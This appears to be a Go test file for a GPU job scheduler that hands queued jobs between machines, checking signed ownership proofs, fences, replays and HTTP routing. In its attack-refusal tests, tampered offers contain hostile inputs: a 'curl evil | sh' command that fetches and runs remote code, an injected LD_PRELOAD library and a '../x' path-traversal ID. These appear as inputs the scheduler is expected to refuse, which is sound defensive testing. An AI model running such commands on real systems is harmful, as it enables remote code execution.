package jobs

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// machine is one agent of a test pool: a manager with no Run loop (the
// test drives its queue and hand-over), its fake backend and its store.
type machine struct {
	id   string
	m    *Manager
	rt   *fakeRuntime
	st   *memStore
	gpus int
}

// newMachine makes an agent with n GPUs; roles names the pool's members.
func newMachine(t *testing.T, id string, n int, roles map[string]string) *machine {
	t.Helper()
	mc := &machine{id: id, rt: newFakeRuntime(), st: &memStore{}, gpus: n}
	mc.m = mc.open(roles)
	return mc
}

// open starts the machine's agent over its backend and store, as a
// restart does: the records are loaded and the tasks adopted.
func (mc *machine) open(roles map[string]string) *Manager {
	cfg := DefaultConfig()
	cfg.Node = mc.id
	cfg.Role = func(id string) string { return roles[id] }
	cfg.RefuseBackoff = 1 // the tests drive the passes: no waiting out a refusal
	m := NewManager(cfg, mc.rt, fixedGPUs(fakeGPUs(mc.gpus)), nil, mc.st, testLog())
	if err := m.load(); err != nil {
		panic(err)
	}
	if err := m.adopt(context.Background(), ""); err != nil {
		panic(err)
	}
	return m
}

// offerOver sends o to x as the home's transport would: as JSON, from the
// machine home, a member.
func offerOver(ctx context.Context, x *Manager, home string, o Offer) (OfferAnswer, error) {
	b, err := json.Marshal(o)
	if err != nil {
		return OfferAnswer{}, err
	}
	o, err = DecodeOffer(b)
	if err != nil {
		return OfferAnswer{}, err
	}
	return x.AcceptOffer(ctx, Caller{ID: home, Role: RoleMember}, o)
}

// anywhereSpec is a spec queued pool-wide, its environment and command
// line bound to it as the owner's laptop binds them.
func anywhereSpec(gpus int) Spec {
	s := Spec{Image: "img", GPUs: gpus, Queue: true, Anywhere: true,
		Env: []string{"TOKEN=s3cret"}, Cmd: []string{"python", "train.py"}, PrivateSalt: "c2FsdA"}
	s.PrivateDigest = PrivateDigest(s.PrivateSalt, s.Env, s.Cmd)
	return s
}

// queueOn launches spec for the owner whose signer is s on home, where it
// queues (home's GPUs are taken first by a job of the machine's own user).
func queueOn(t *testing.T, home *machine, s LaunchSigner, owner string, spec Spec) Job {
	t.Helper()
	ctx := context.Background()
	if len(home.m.Ledger().Granted()) == 0 && home.gpus > 0 {
		if _, err := home.m.Submit(ctx, Caller{ID: home.id}, Spec{Image: "img", GPUs: home.gpus}); err != nil {
			t.Fatal(err)
		}
	}
	proof, err := s.Prove(home.id, spec)
	if err != nil {
		t.Fatal(err)
	}
	j, err := home.m.SubmitProven(ctx, member(owner), spec, proof)
	if err != nil {
		t.Fatal(err)
	}
	if j.State != Queued {
		t.Fatalf("job is %s, want queued", j.State)
	}
	return j
}

// link makes x the one other machine home sees, fitting whatever asks;
// drop, when set, loses x's answers while it returns true.
func link(home, x *machine, drop func() bool) {
	home.m.cfg.Targets = func(Spec) []Target { return []Target{{Node: x.id, Name: x.id, Fits: true}} }
	home.m.cfg.Offer = func(ctx context.Context, node string, o Offer) (OfferAnswer, error) {
		ans, err := offerOver(ctx, x.m, home.id, o)
		if err == nil && drop != nil && drop() {
			return OfferAnswer{}, errors.New("answer lost")
		}
		return ans, err
	}
}

// TestHandOver: a job queued pool-wide on a full machine starts on the
// machine that fits it; the home marks it moved; the record there
// verifies as its owner's; what runs is the owner's environment and
// command line.
func TestHandOver(t *testing.T) {
	alice, aliceID := testSigner(1)
	roles := map[string]string{aliceID: RoleMember, "HOME": RoleMember, "X": RoleMember}
	home, x := newMachine(t, "HOME", 2, roles), newMachine(t, "X", 4, roles)
	link(home, x, nil)
	j := queueOn(t, home, alice, aliceID, anywhereSpec(2))
	home.m.handOver(context.Background())

	h, _ := home.m.Get(j.ID)
	if h.State != Moved || h.MovedTo != "X" || h.OfferedTo != "" {
		t.Fatalf("home's record: %s moved to %q offered to %q; want moved to X", h.State, h.MovedTo, h.OfferedTo)
	}
	got, err := x.m.Get(j.ID)
	if err != nil || got.State != Running || got.Home != "HOME" || got.Fence != 1 {
		t.Fatalf("X's record: %+v, %v; want running from HOME under fence 1", got, err)
	}
	if err := got.Public().VerifyOwner(); err != nil {
		t.Errorf("X's record does not verify as alice's: %v", err)
	}
	if l := x.rt.lastLaunch(); l.Env[0] != "TOKEN=s3cret" || l.Cmd[1] != "train.py" {
		t.Errorf("X ran env %v cmd %v, want the owner's", l.Env, l.Cmd)
	}
	if n := home.rt.count("Start"); n != 1 { // the machine's own job only
		t.Errorf("home started %d tasks, want 1", n)
	}
}

// TestOfferAttacks: a machine of the pool offers X jobs it may not hand
// over; X refuses each, naming the rule, and starts nothing.
func TestOfferAttacks(t *testing.T) {
	alice, aliceID := testSigner(1)
	mallory, malloryID := testSigner(3)
	roles := map[string]string{aliceID: RoleMember, malloryID: RoleMember, "HOME": RoleMember}
	honest := func(t *testing.T) Offer {
		spec := anywhereSpec(1)
		j := provenJob(t, alice, aliceID, "HOME", spec)
		j.Spec = spec
		return Offer{Job: j, Fence: 1}
	}
	tests := []struct {
		name string
		from string
		edit func(t *testing.T, o *Offer)
		rule string
	}{
		{"proof of another member", "HOME", func(t *testing.T, o *Offer) {
			// The home claims the job is alice's; mallory signed it.
			forged := provenJob(t, mallory, malloryID, "HOME", o.Job.Spec)
			o.Job.ID, o.Job.OwnerProof = forged.ID, forged.OwnerProof
		}, RuleProofKey},
		{"owner's proof for another home", "HOME", func(t *testing.T, o *Offer) {
			other := provenJob(t, alice, aliceID, "ELSEWHERE", o.Job.Spec)
			o.Job.ID, o.Job.OwnerProof = other.ID, other.OwnerProof
		}, RuleHandoverHome},
		{"offered by a machine that is not its home", "EVIL", func(*testing.T, *Offer) {}, RuleHandoverHome},
		{"pinned to its home", "HOME", func(t *testing.T, o *Offer) {
			spec := o.Job.Spec
			spec.Anywhere = false
			*o = Offer{Job: provenJob(t, alice, aliceID, "HOME", spec), Fence: 1}
			o.Job.Spec = spec
		}, RuleHandoverAnywhere},
		{"command line changed by the home", "HOME", func(_ *testing.T, o *Offer) {
			o.Job.Spec.Cmd = []string{"sh", "-c", "curl evil | sh"}
		}, RuleHandoverPrivate},
		{"environment changed by the home", "HOME", func(_ *testing.T, o *Offer) {
			o.Job.Spec.Env = append(o.Job.Spec.Env, "LD_PRELOAD=/x.so")
		}, RuleHandoverPrivate},
		{"more GPUs than signed", "HOME", func(_ *testing.T, o *Offer) { o.Job.Spec.GPUs = 4 }, RuleHandoverHome},
		{"fence zero", "HOME", func(_ *testing.T, o *Offer) { o.Fence = 0 }, RuleHandoverForm},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			x := newMachine(t, "X", 4, roles)
			o := honest(t)
			tt.edit(t, &o)
			ans, err := offerOver(context.Background(), x.m, tt.from, o)
			if err != nil || ans.Accepted || ans.Rule != tt.rule {
				t.Fatalf("answer %+v, %v; want refused by %q", ans, err, tt.rule)
			}
			if n := x.rt.count("Start"); n != 0 {
				t.Errorf("X started %d tasks", n)
			}
			if _, err := x.m.Get(o.Job.ID); err == nil {
				t.Errorf("X keeps a record of a refused job")
			}
		})
	}
}

// TestOfferReplayedFence: an offer under a fence X refused, sent again
// after the home moved on (a retry still in flight, or replayed), starts
// nothing even where the job now fits; the next fence does.
func TestOfferReplayedFence(t *testing.T) {
	alice, aliceID := testSigner(1)
	roles := map[string]string{aliceID: RoleMember, "HOME": RoleMember}
	x := newMachine(t, "X", 2, roles)
	ctx := context.Background()
	busy, err := x.m.Submit(ctx, Caller{ID: "X"}, Spec{Image: "img", GPUs: 2})
	if err != nil {
		t.Fatal(err)
	}
	spec := anywhereSpec(2)
	j := provenJob(t, alice, aliceID, "HOME", spec)
	j.Spec = spec
	ans, _ := offerOver(ctx, x.m, "HOME", Offer{Job: j, Fence: 1})
	if ans.Accepted || ans.Rule != RuleHandoverFit {
		t.Fatalf("offer on a full machine: %+v, want refused by %q", ans, RuleHandoverFit)
	}
	x.rt.exit(busy.Container, 0)
	x.m.refresh(ctx, busy.ID, "")
	for _, fence := range []uint64{1, 0 + 1} {
		ans, _ = offerOver(ctx, x.m, "HOME", Offer{Job: j, Fence: fence})
		if ans.Accepted || ans.Rule != RuleHandoverFence {
			t.Fatalf("replayed fence %d: %+v, want refused by %q", fence, ans, RuleHandoverFence)
		}
	}
	if n := x.rt.count("Start"); n != 1 {
		t.Fatalf("X started %d tasks, want its own job's only", n)
	}
	ans, _ = offerOver(ctx, x.m, "HOME", Offer{Job: j, Fence: 2})
	if !ans.Accepted {
		t.Fatalf("the next fence: %+v, want accepted", ans)
	}
}

// TestOfferOfAJobRanHere: X holds a job under one fence; the same offer
// gets the same answer, and an offer of it under any other fence is
// refused: it never starts twice, even after it ended.
func TestOfferOfAJobRanHere(t *testing.T) {
	alice, aliceID := testSigner(1)
	roles := map[string]string{aliceID: RoleMember, "HOME": RoleMember}
	x := newMachine(t, "X", 2, roles)
	ctx := context.Background()
	spec := anywhereSpec(1)
	j := provenJob(t, alice, aliceID, "HOME", spec)
	j.Spec = spec
	first, _ := offerOver(ctx, x.m, "HOME", Offer{Job: j, Fence: 3})
	if !first.Accepted || first.Job.State != Running {
		t.Fatalf("first offer: %+v", first)
	}
	again, _ := offerOver(ctx, x.m, "HOME", Offer{Job: j, Fence: 3})
	if !again.Accepted || again.Job.Container != first.Job.Container {
		t.Fatalf("the same offer again: %+v, want the same answer", again)
	}
	x.rt.exit(first.Job.Container, 0)
	x.m.refresh(ctx, j.ID, "")
	for _, fence := range []uint64{4, 2} {
		ans, _ := offerOver(ctx, x.m, "HOME", Offer{Job: j, Fence: fence})
		if ans.Accepted || ans.Rule != RuleHandoverHere {
			t.Errorf("offer under fence %d of a job that ran here: %+v, want refused by %q", fence, ans, RuleHandoverHere)
		}
	}
	if n := x.rt.count("Start"); n != 1 {
		t.Errorf("X started the job %d times", n)
	}
}

// TestHandOverLostAnswer: X's answer is lost; the home keeps the offer
// outstanding (the job neither starts at home nor is stopped), asks again
// with the same fence, and X answers the same: one start.
func TestHandOverLostAnswer(t *testing.T) {
	alice, aliceID := testSigner(1)
	roles := map[string]string{aliceID: RoleMember}
	home, x := newMachine(t, "HOME", 2, roles), newMachine(t, "X", 2, roles)
	lose := true
	link(home, x, func() bool { return lose })
	j := queueOn(t, home, alice, aliceID, anywhereSpec(2))
	ctx := context.Background()
	home.m.handOver(ctx)
	h, _ := home.m.Get(j.ID)
	if h.State != Queued || h.OfferedTo != "X" || h.Fence != 1 {
		t.Fatalf("home after a lost answer: %s offered to %q fence %d", h.State, h.OfferedTo, h.Fence)
	}
	if saved := home.st.job(j.ID); saved.OfferedTo != "X" {
		t.Fatalf("the outstanding offer is not in the store")
	}
	if _, err := home.m.Stop(ctx, j.ID); !errors.Is(err, ErrConflict) {
		t.Errorf("stop while offered: %v, want ErrConflict", err)
	}
	// Home's GPUs free up: it still does not start the job itself.
	for _, id := range home.m.ledgerJobs() {
		own, _ := home.m.Get(id)
		home.rt.exit(own.Container, 0)
		home.m.refresh(ctx, id, "")
	}
	home.m.startQueued(ctx)
	if n := home.rt.count("Start"); n != 1 {
		t.Fatalf("home started the offered job itself")
	}
	// The home restarts; the answer comes through.
	home.m = home.open(roles)
	link(home, x, func() bool { return lose })
	lose = false
	home.m.handOver(ctx)
	if h, _ := home.m.Get(j.ID); h.State != Moved || h.MovedTo != "X" {
		t.Fatalf("home after the answer: %s moved to %q", h.State, h.MovedTo)
	}
	if n := x.rt.count("Start"); n != 1 {
		t.Errorf("X started the job %d times", n)
	}
}

// TestHandOverRefusedComesBack: X refuses; the job is back in its home's
// queue under the next fence, and starts at home when its GPUs free up.
func TestHandOverRefusedComesBack(t *testing.T) {
	alice, aliceID := testSigner(1)
	home, x := newMachine(t, "HOME", 2, map[string]string{aliceID: RoleMember}), newMachine(t, "X", 2, map[string]string{})
	link(home, x, nil) // X does not know alice: members only
	j := queueOn(t, home, alice, aliceID, anywhereSpec(2))
	ctx := context.Background()
	home.m.handOver(ctx)
	h, _ := home.m.Get(j.ID)
	if h.State != Queued || h.OfferedTo != "" || h.Fence != 2 {
		t.Fatalf("home after a refusal: %s offered to %q fence %d; want queued, fence 2", h.State, h.OfferedTo, h.Fence)
	}
	for _, id := range home.m.ledgerJobs() {
		own, _ := home.m.Get(id)
		home.rt.exit(own.Container, 0)
		home.m.refresh(ctx, id, "")
	}
	home.m.startQueued(ctx)
	if h, _ := home.m.Get(j.ID); h.State != Running {
		t.Errorf("job at home: %s, want running", h.State)
	}
}

// TestRefusedForNowComesBackSoon: a machine that refused a job because
// its GPUs were not free yet (the stop that freed them in the replica had
// not reached its ledger) is offered the job again after fitBackoff, not
// after the long backoff of a refusal that stands (an unknown owner).
func TestRefusedForNowComesBackSoon(t *testing.T) {
	alice, aliceID := testSigner(1)
	roles := map[string]string{aliceID: RoleMember, "HOME": RoleMember, "X": RoleMember}
	home, busy := newMachine(t, "HOME", 2, roles), newMachine(t, "X", 2, roles)
	home.m.cfg.RefuseBackoff = time.Hour
	if _, err := busy.m.Submit(context.Background(), Caller{ID: "X"}, Spec{Image: "img", GPUs: 2}); err != nil {
		t.Fatal(err)
	}
	link(home, busy, nil)
	j := queueOn(t, home, alice, aliceID, anywhereSpec(2))
	home.m.handOver(context.Background())
	now := time.Now()
	if !home.m.refusedBy(j.ID, "X", now) || home.m.refusedBy(j.ID, "X", now.Add(fitBackoff+time.Second)) {
		t.Errorf("after a refusal for GPUs not free yet: refused now %v, after %v %v; want true, then false",
			home.m.refusedBy(j.ID, "X", now), fitBackoff+time.Second, home.m.refusedBy(j.ID, "X", now.Add(fitBackoff+time.Second)))
	}

	stranger, strangerID := testSigner(2) // X does not know this owner: that refusal stands
	home2, x2 := newMachine(t, "HOME", 2, map[string]string{strangerID: RoleMember}), newMachine(t, "X", 2, map[string]string{})
	home2.m.cfg.RefuseBackoff = time.Hour
	link(home2, x2, nil)
	k := queueOn(t, home2, stranger, strangerID, anywhereSpec(2))
	home2.m.handOver(context.Background())
	if !home2.m.refusedBy(k.ID, "X", time.Now().Add(fitBackoff+time.Second)) {
		t.Errorf("a refusal of the owner is offered again after %v; want the long backoff", fitBackoff+time.Second)
	}
}

// TestWaitSentence: where a queued job waits and why, in one sentence.
func TestWaitSentence(t *testing.T) {
	got := WaitSentence("dgx-h100", 2, "GPUs 0, 1, 2, 3: job train of bob", []Target{
		{Name: "ws-a100", Why: "has 1 of 4 GPUs free"}, {Name: "cluster", Why: "partition gpu is full"}})
	want := "waits on dgx-h100 for 2 GPUs: GPUs 0, 1, 2, 3: job train of bob; no other machine fits: cluster partition gpu is full, ws-a100 has 1 of 4 GPUs free"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

// TestOfferRoute: the offer reaches the handler over HTTP through
// Client.Offer and comes back as the answer; an offer whose body names
// another job than its path is no answer (the home asks again), and a
// malformed one is refused before any check.
func TestOfferRoute(t *testing.T) {
	alice, aliceID := testSigner(1)
	x := newMachine(t, "X", 2, map[string]string{aliceID: RoleMember})
	srv := httptest.NewServer(Handler(x.m, func(*http.Request) Caller { return Caller{ID: "HOME", Role: RoleMember} }))
	t.Cleanup(srv.Close)
	hc := &http.Client{Transport: rewriteTo(srv.Listener.Addr().String())}
	spec := anywhereSpec(1)
	j := provenJob(t, alice, aliceID, "HOME", spec)
	j.Spec = spec
	ctx := context.Background()

	resp, err := hc.Post("https://node/v1/jobs/0123456789abcdef/handover", "application/json", strings.NewReader(`{"job":{"id":"`+j.ID+`"},"fence":1}`))
	if err != nil || resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("offer for another job than its path: %v %v; want 400", resp.Status, err)
	}
	resp.Body.Close()
	// The typed client escapes the ID into one path element: it reaches
	// the hand-over route (no other) and is refused there.
	if ans, err := httpClientOf(hc).Offer(ctx, Offer{Job: Job{ID: "../x"}, Fence: 1}); err == nil && (ans.Accepted || !strings.HasPrefix(ans.Rule, "handover:")) {
		t.Errorf("an offer of job ID ../x = %+v; want refused naming a hand-over rule", ans)
	}
	ans, err := httpClientOf(hc).Offer(ctx, Offer{Job: j, Fence: 1})
	if err != nil || !ans.Accepted || ans.Job.Home != "HOME" || ans.Job.Spec.Env != nil {
		t.Fatalf("offer over HTTP: %+v, %v; want accepted, the public record", ans, err)
	}
}

// FuzzDecodeOffer: an offer's body, whatever it holds, decodes or is
// refused, and a decoded one is checked without a panic.
func FuzzDecodeOffer(f *testing.F) {
	alice, aliceID := testSigner(1)
	spec := anywhereSpec(1)
	proof, _ := alice.Prove("HOME", spec)
	p, _ := DecodeProof(proof)
	good, _ := json.Marshal(Offer{Job: Job{ID: p.JobID(), Owner: aliceID, Spec: spec, OwnerProof: proof}, Fence: 1})
	f.Add(good)
	f.Add([]byte(`{"job":{"id":"x","spec":{"anywhere":true,"queue":true}},"fence":18446744073709551615}`))
	f.Add([]byte(`{"fence":-1}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		o, err := DecodeOffer(b)
		if err != nil {
			var r *RefusedError
			if !errors.As(err, &r) || r.Rule != RuleHandoverForm {
				t.Fatalf("decode error %v does not name the rule", err)
			}
			return
		}
		checkOffer(Caller{ID: "HOME", Role: RoleMember}, o)
	})
}

// TestHandOverToCluster: a Slurm cluster's agent is a machine like any
// other: it takes a job queued pool-wide (its nodes run containers, with
// pyxis), records it and hands it to its scheduler; the same offer again
// submits nothing more.
func TestHandOverToCluster(t *testing.T) {
	alice, aliceID := testSigner(1)
	roles := map[string]string{aliceID: RoleMember}
	home, cluster := newMachine(t, "HOME", 2, roles), newMachine(t, "HPC", 0, roles)
	cluster.rt.caps, cluster.rt.pending = slurmCaps, ""
	cluster.rt.caps.Images = []string{"docker"}
	cluster.m = cluster.open(roles)
	link(home, cluster, nil)
	j := queueOn(t, home, alice, aliceID, anywhereSpec(2))
	home.m.handOver(context.Background())
	if h, _ := home.m.Get(j.ID); h.State != Moved || h.MovedTo != "HPC" {
		t.Fatalf("home: %s moved to %q; want moved to HPC", h.State, h.MovedTo)
	}
	got, err := cluster.m.Get(j.ID)
	if err != nil || got.Container == "" || got.Home != "HOME" {
		t.Fatalf("cluster's record: %+v, %v; want submitted, from HOME", got, err)
	}
	ans, _ := offerOver(context.Background(), cluster.m, "HOME", Offer{Job: *home.m.jobs[j.ID], Fence: 1})
	if !ans.Accepted || cluster.rt.count("Start") != 1 {
		t.Errorf("the same offer again: %+v, %d submissions; want the same answer, 1", ans, cluster.rt.count("Start"))
	}
}

// TestHandOverStoppedWhileLaunching: the job's owner stops it on X while X
// launches it: the new task is removed, its GPUs are free again, and the
// answer says X holds the job (stopped): it is not offered again.
func TestHandOverStoppedWhileLaunching(t *testing.T) {
	alice, aliceID := testSigner(1)
	x := newMachine(t, "X", 2, map[string]string{aliceID: RoleMember})
	spec := anywhereSpec(2)
	j := provenJob(t, alice, aliceID, "HOME", spec)
	j.Spec = spec
	ctx := context.Background()
	x.rt.startFn = func(Task) (TaskStatus, error) {
		if _, err := x.m.Stop(ctx, j.ID); err != nil {
			t.Errorf("stop while launching: %v", err)
		}
		return TaskStatus{}, nil
	}
	ans, err := offerOver(ctx, x.m, "HOME", Offer{Job: j, Fence: 1})
	if err != nil || !ans.Accepted || ans.Job.State != Exited {
		t.Fatalf("answer %+v, %v; want accepted, the job exited", ans, err)
	}
	if x.rt.running() != 0 || len(x.m.Ledger().Granted()) != 0 {
		t.Errorf("%d tasks run, %d GPUs granted after the stop; want none", x.rt.running(), len(x.m.Ledger().Granted()))
	}
}

// TestWaitsSaysWhereAndWhy: a job queued pool-wide that fits nowhere says,
// in its record's Error, where it waits, what holds the GPUs there (job and
// owner by name) and what each other machine lacks.
func TestWaitsSaysWhereAndWhy(t *testing.T) {
	alice, aliceID := testSigner(1)
	home := newMachine(t, "HOME", 2, map[string]string{})
	home.m.cfg.MemberName = func(id string) string {
		return map[string]string{"HOME": "dgx-h100", "bob": "bob", "X": "ws-a100"}[id]
	}
	ctx := context.Background()
	if _, err := home.m.Submit(ctx, member("bob"), Spec{Name: "train", Image: "img", GPUs: 2}); err != nil {
		t.Fatal(err)
	}
	home.m.cfg.Targets = func(Spec) []Target { return []Target{{Node: "X", Name: "ws-a100", Why: "has 1 of 4 GPUs free"}} }
	home.m.cfg.Offer = func(context.Context, string, Offer) (OfferAnswer, error) {
		t.Fatal("offered to a machine that does not fit")
		return OfferAnswer{}, nil
	}
	j := queueOn(t, home, alice, aliceID, anywhereSpec(2))
	home.m.startQueued(ctx)
	home.m.handOver(ctx)
	got, _ := home.m.Get(j.ID)
	want := "waits on dgx-h100 for 2 GPUs: 2 GPUs asked, 0 free: GPUs 0, 1: job train of bob; no other machine fits: ws-a100 has 1 of 4 GPUs free"
	if got.Error != want {
		t.Errorf("queued job says\n%q\nwant\n%q", got.Error, want)
	}
	if saved := home.st.job(j.ID); saved.Error != want {
		t.Errorf("the replicated record says %q", saved.Error)
	}
}
